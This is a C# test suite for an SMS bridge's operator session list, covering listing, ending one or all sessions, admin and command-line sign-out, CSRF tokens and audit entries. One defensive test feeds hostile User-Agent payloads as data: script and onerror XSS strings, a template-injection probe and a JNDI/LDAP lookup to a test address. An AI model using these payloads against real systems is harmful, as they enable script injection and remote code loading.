using System.Net;
using SmsBridge.Operators;
using SmsBridge.Tests.CommandLine;
using SmsBridge.Tests.Console;
using SmsBridge.Tests.Support;

namespace SmsBridge.Tests.Operators.Sessions;

/// <summary>What operators see of their sessions, and how they and admins end them.</summary>
public sealed class SessionListTests(SmsBridgeApp app) : IClassFixture<SmsBridgeApp>
{
    private const string EndForm = "/console/account/end-sessions";

    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    [Fact]
    public async Task One_s_own_are_listed_with_browser_and_times_and_nobody_else_s()
    {
        var (name, stranger) = (await app.AddOperatorAsync(OperatorRole.Viewer), await app.AddOperatorAsync(OperatorRole.Admin));
        var began = app.Clock.GetUtcNow();
        using var telephone = await app.SignedInAsync(name, SessionStage.Safari);
        app.Clock.Advance(TimeSpan.FromMinutes(5));
        using var desk = await app.SignedInAsync(name, SessionStage.Firefox);
        using var foreign = await app.SignedInAsync(stranger);

        using var answer = await desk.GetAsync("/api/account/sessions", Cancellation);
        var listed = (await Json.ReadAsync(answer)).GetProperty("sessions").EnumerateArray().ToList();
        var page = await ConsolePages.PageAsync(desk, "/console/account");

        listed.Select(one => (one.Text("browser"), one.GetProperty("isCurrent").GetBoolean())).ShouldBe([("Firefox on Linux", true), ("Safari on iPhone", false)]);
        listed[1].GetProperty("startedAt").GetDateTimeOffset().ShouldBe(began, TimeSpan.FromMilliseconds(1));
        listed[1].GetProperty("seenAt").GetDateTimeOffset().ShouldBe(began, TimeSpan.FromMilliseconds(1));
        listed[1].GetProperty("endsAt").GetDateTimeOffset().ShouldBe(began + TimeSpan.FromHours(12), TimeSpan.FromMilliseconds(1));
        page.ShouldContain("Firefox on Linux");
        page.ShouldContain("Safari on iPhone");
        page.Split("name=\"id\"").Length.ShouldBe(2, "one to end beside the one that asks");
        (await foreign.ListAsync()).ShouldHaveSingleItem().IsCurrent.ShouldBeTrue();
    }

    [Fact]
    public async Task One_is_ended_on_the_page_and_out_at_its_next_request()
    {
        var name = await app.AddOperatorAsync(OperatorRole.Viewer);
        using var here = await app.SignedInAsync(name);
        using var there = await app.SignedInAsync(name, SessionStage.Firefox);
        using var third = await app.SignedInAsync(name);
        var id = (await there.ListAsync()).Single(one => one.IsCurrent).Id;

        (await SubmitAsync(here, ("id", id))).ShouldContain("The session is ended.");

        (await there.IsInAsync()).ShouldBeFalse();
        (await here.IsInAsync()).ShouldBeTrue();
        (await third.IsInAsync()).ShouldBeTrue();
        (await SubmitAsync(here, ("id", id))).ShouldContain("There is no such session any more.");
        (await ActsAsync(name)).ShouldHaveSingleItem().ShouldStartWith("Firefox on Linux at ");
    }

    [Fact]
    public async Task All_others_are_ended_by_page_and_api_and_the_one_that_asks_goes_on()
    {
        foreach (var byPage in new[] { true, false })
        {
            var name = await app.AddOperatorAsync(OperatorRole.Viewer);
            using var here = await app.SignedInAsync(name);
            using var there = await app.SignedInAsync(name);
            using var third = await app.SignedInAsync(name);

            if (byPage)
            {
                (await SubmitAsync(here)).ShouldContain("All your other sessions are ended.");
            }
            else
            {
                (await here.SendAsync(HttpMethod.Delete, "/api/account/sessions")).ShouldBe(HttpStatusCode.OK);
                (await here.SendAsync(HttpMethod.Delete, "/api/account/sessions")).ShouldBe(HttpStatusCode.OK);
            }

            (await there.IsInAsync()).ShouldBeFalse();
            (await third.IsInAsync()).ShouldBeFalse();
            (await here.ListAsync()).ShouldHaveSingleItem().IsCurrent.ShouldBeTrue();
            (await ActsAsync(name)).ShouldBe(["all others"]);
        }
    }

    [Fact]
    public async Task Nobody_ends_a_session_of_somebody_else_by_its_id()
    {
        var (name, other) = (await app.AddOperatorAsync(OperatorRole.Admin), await app.AddOperatorAsync(OperatorRole.Viewer));
        using var theirs = await app.SignedInAsync(name);
        using var browser = await app.SignedInAsync(other);
        var id = (await theirs.ListAsync()).Single().Id;

        (await browser.SendAsync(HttpMethod.Delete, $"/api/account/sessions/{id}")).ShouldBe(HttpStatusCode.NotFound);
        (await SubmitAsync(browser, ("id", id))).ShouldContain("There is no such session any more.");
        (await browser.SendAsync(HttpMethod.Delete, "/api/account/sessions")).ShouldBe(HttpStatusCode.OK);

        (await theirs.IsInAsync()).ShouldBeTrue();
    }

    [Fact]
    public async Task A_form_without_its_token_ends_nothing()
    {
        var name = await app.AddOperatorAsync(OperatorRole.Viewer);
        using var here = await app.SignedInAsync(name);
        using var there = await app.SignedInAsync(name);

        using var answer = await here.PostFormAsync(EndForm);

        answer.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        (await there.IsInAsync()).ShouldBeTrue();
    }

    [Fact]
    public async Task An_admin_signs_somebody_out_everywhere_who_may_sign_in_again()
    {
        using var admin = await app.SignInAsAsync(OperatorRole.Admin);
        var name = await app.AddOperatorAsync(OperatorRole.Support);
        var id = (await app.QueryAsync<long>("SELECT id FROM operator WHERE name = @name", new { name })).ShouldHaveSingleItem();
        using var first = await app.SignedInAsync(name);
        using var second = await app.SignedInAsync(name);

        (await ConsolePages.PageAsync(admin, "/console/operators")).ShouldContain("2 sessions");
        (await ConsolePages.SubmitAsync(admin, "/console/operators", $"sessions-{id}")).ShouldContain($"Operator {name} is signed out everywhere.");
        (await first.IsInAsync()).ShouldBeFalse();
        (await second.IsInAsync()).ShouldBeFalse();

        using var again = await app.SignedInAsync(name);
        (await first.SendAsync(HttpMethod.Post, $"/api/operators/{name}/end-sessions")).ShouldBe(HttpStatusCode.Unauthorized);
        (await again.SendAsync(HttpMethod.Post, $"/api/operators/{name}/end-sessions")).ShouldBe(HttpStatusCode.Forbidden);
        (await admin.SendAsync(HttpMethod.Post, "/api/operators/nobody/end-sessions")).ShouldBe(HttpStatusCode.NotFound);
        (await again.IsInAsync()).ShouldBeTrue();
        (await admin.SendAsync(HttpMethod.Post, $"/api/operators/{name}/end-sessions")).ShouldBe(HttpStatusCode.OK);
        (await again.IsInAsync()).ShouldBeFalse();
        (await admin.IsInAsync()).ShouldBeTrue();
        (await ActsAsync(name)).ShouldBe(["all", "all"]);
    }

    [Fact]
    public async Task The_command_line_does_so_beside_the_service_and_at_once()
    {
        var name = await app.AddOperatorAsync(OperatorRole.Support);
        using var browser = await app.SignedInAsync(name);
        await using var cli = await Cli.BesideAsync(app, Cancellation);
        (await browser.IsInAsync()).ShouldBeTrue();

        (await cli.RunAsync("operator", "end-sessions", name, "--json")).Json.GetProperty("name").GetString().ShouldBe(name);

        (await browser.IsInAsync()).ShouldBeFalse();
        (await cli.RunAsync("operator", "end-sessions", name)).Out.ShouldContain("is signed out everywhere");
        (await cli.RunAsync("operator", "end-sessions", "nobody")).ShouldSatisfyAllConditions(
            result => result.ExitCode.ShouldBe(SmsBridge.CommandLine.ExitCodes.Failed), result => result.Error.ShouldContain("There is no operator nobody"));
    }

    [Theory]
    [InlineData("<script>alert(1)</script> Firefox/1 (Linux)", "Firefox on Linux")]
    [InlineData("\"><img src=x onerror=alert(1)>", null)]
    [InlineData("Mozilla/5.0 \u202ExoferiF (Windows NT 10.0)", "a program on Windows")]
    [InlineData("{{7*7}} ${jndi:ldap://192.0.2.1/a} Chrome/1", "Chrome")]
    public async Task What_a_browser_calls_itself_is_never_shown_or_stored_as_it_was_sent(string userAgent, string? shown)
    {
        var name = await app.AddOperatorAsync(OperatorRole.Viewer);
        using var hostile = await app.SignedInAsync(name, userAgent);
        using var here = await app.SignedInAsync(name, SessionStage.Safari);

        var page = await here.GetStringAsync("/console/account", Cancellation);
        (await SubmitAsync(here)).ShouldContain("All your other sessions are ended.");

        page.ShouldContain(shown ?? "unknown program");
        foreach (var part in new[] { "<script>alert", "onerror", "xoferiF", "7*7", "jndi" })
        {
            page.ShouldNotContain(part);
            app.StoredBytes().ShouldNotContainText(part);
        }
    }

    [Fact]
    public async Task A_name_as_long_as_a_header_may_be_keeps_nobody_out()
    {
        var name = await app.AddOperatorAsync(OperatorRole.Viewer);

        using var browser = await app.SignedInAsync(name, new string('x', 16_000) + " Firefox");

        (await app.QueryAsync<string>("SELECT s.browser FROM operator_session s JOIN operator o ON o.id = s.operator_id WHERE o.name = @name", new { name })).ShouldBe(["Firefox"]);
    }

    private static async Task<string> SubmitAsync(HttpClient browser, params (string Name, string Value)[] fields)
    {
        using var answer = await browser.PostFormAsync(EndForm, [ConsolePages.Token(await ConsolePages.PageAsync(browser, "/console/account")), .. fields]);
        answer.StatusCode.ShouldBe(HttpStatusCode.Redirect);
        return await ConsolePages.PageAsync(browser, answer.Headers.Location!.OriginalString);
    }

    private Task<List<string>> ActsAsync(string name) => app.QueryAsync<string>(
        "SELECT after FROM audit WHERE action = 'sessions_end' AND subject = @subject ORDER BY id", new { subject = OperatorStore.Subject(name) });
}
